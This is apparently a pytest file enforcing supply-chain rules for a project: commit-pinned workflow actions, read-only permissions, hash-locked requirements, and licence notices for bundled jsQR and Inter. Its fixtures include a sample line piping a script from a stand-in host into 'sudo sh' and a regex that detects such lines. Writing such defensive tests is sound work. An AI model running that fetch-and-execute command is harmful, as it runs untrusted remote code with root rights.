"""What is taken from elsewhere is named to the byte, and what is carried is told."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from bill_of_materials import page_library

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
LOCKS = sorted((ROOT / "requirements").glob("*.txt"))
SCRIPTS = [
    path
    for path in (ROOT / "Makefile", *WORKFLOWS, *(ROOT / "tools").rglob("*"), *(ROOT / "packaging").rglob("*"))
    if path.is_file() and path.suffix not in {".pyc", ".txt", ".md"}
]
NAMED = {"take-home.html", "OFL.txt"}
"""What bears somebody's name or licence among the resources: its component and its notice are told (jsQR, Inter)."""


def wrong_in_workflow(text: str) -> list[str]:
    """Actions by a name that may be given to other code, and rights beyond reading."""
    found = [line.strip() for line in text.splitlines() if re.search(r"\buses:", line)]
    wrong = [line for line in found if not re.search(r"uses: [\w/-]+@[0-9a-f]{40} # v\d", line)]
    return wrong + ["permissions"] * (
        re.findall(r"^ *permissions:\n((?: +.*\n)+)", text, re.MULTILINE) != ["  contents: read\n"]
    )


def wrong_in_lock(text: str) -> list[str]:
    """Lines that are no locked version with the hashes of its files."""
    wanted = re.compile(
        r"[A-Za-z0-9._-]+==[A-Za-z0-9.+!]+( ; [^\\]+)? \\\n"
        r"(    --hash=sha256:[0-9a-f]{64} \\\n)*    --hash=sha256:[0-9a-f]{64}\n"
    )
    left = wanted.sub("", text)
    return [line for line in left.splitlines() if line.strip() and not line.lstrip().startswith("#")]


def wrong_in_script(text: str) -> list[str]:
    """Packages that are installed by name, or a program that is fetched and run."""
    joined = re.sub(r"\\\n\s*", " ", text)
    found = re.findall(r"\bpip[\"']?,? +[\"']?install\b.*", joined)
    wrong = [line for line in found if "--require-hashes" not in line and "--no-deps --no-build-isolation" not in line]
    return wrong + re.findall(r"(?:curl|wget)\b.*\|\s*(?:sudo )?(?:ba)?sh\b.*", joined)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_a_workflow_names_its_actions_by_their_commits_and_may_only_read(path: Path) -> None:
    assert [] == wrong_in_workflow(path.read_text(encoding="utf-8"))


@pytest.mark.parametrize("path", LOCKS, ids=lambda path: path.name)
def test_a_lock_has_nothing_but_versions_and_hashes(path: Path) -> None:
    assert [] == wrong_in_lock(path.read_text(encoding="utf-8"))


def test_no_script_installs_what_it_has_no_hash_of() -> None:
    found = {path.name: wrong_in_script(path.read_text(encoding="utf-8", errors="replace")) for path in SCRIPTS}
    assert {} == {name: wrong for name, wrong in found.items() if wrong}


@pytest.mark.parametrize(
    ("wrong_in", "text"),
    [
        (wrong_in_workflow, "permissions:\n  contents: read\n      - uses: actions/checkout@v4\n"),
        (wrong_in_workflow, f"permissions:\n  contents: read\n      - uses: stranger/run@main # {'0' * 40} v1\n"),
        (wrong_in_workflow, f"      - uses: actions/checkout@{'0' * 40} # v4\n"),
        (wrong_in_workflow, "permissions:\n  contents: write\n"),
        (wrong_in_lock, "--extra-index-url ELSEWHERE\n"),
        (wrong_in_lock, "cffi==1.0\n"),
        (wrong_in_lock, f"cffi>=1.0 \\\n    --hash=sha256:{'0' * 64}\n"),
        (wrong_in_lock, f"cffi==1.0 \\\n    --hash=md5:{'0' * 32}\n"),
        (wrong_in_lock, "-e git+https://stranger.example/x.git#egg=x\n"),
        (wrong_in_script, "python -m pip install -r requirements/run.txt\n"),
        (wrong_in_script, '    run("pip", "install", name)\n'),
        (wrong_in_script, "curl https://stranger.example/x.sh | sudo sh\n"),
    ],
)
def test_what_is_not_named_to_the_byte_is_found(wrong_in: Callable[[str], list[str]], text: str) -> None:
    assert [] != wrong_in(text)


def test_what_bears_anothers_name_among_the_resources_has_its_notice() -> None:
    bearing = re.compile(r"copyright|©|licen[cs]e", re.IGNORECASE)
    found = {
        path.name
        for path in (ROOT / "resources").rglob("*")
        if path.suffix in {".html", ".js", ".css", ".py", ".txt"} and bearing.search(path.read_text(encoding="utf-8"))
    }
    assert found == NAMED


def test_the_library_in_the_page_for_telephones_is_told(tmp_path: Path) -> None:
    told = page_library(ROOT / "resources" / "take-home.html")
    assert ("jsQR", "1.4.0", ("jsQR.txt",)) == (told.name, told.version, told.notices)
    (tmp_path / "page.html").write_text("<script></script>", encoding="utf-8")
    with pytest.raises(LookupError, match="is it still in the page"):
        page_library(tmp_path / "page.html")
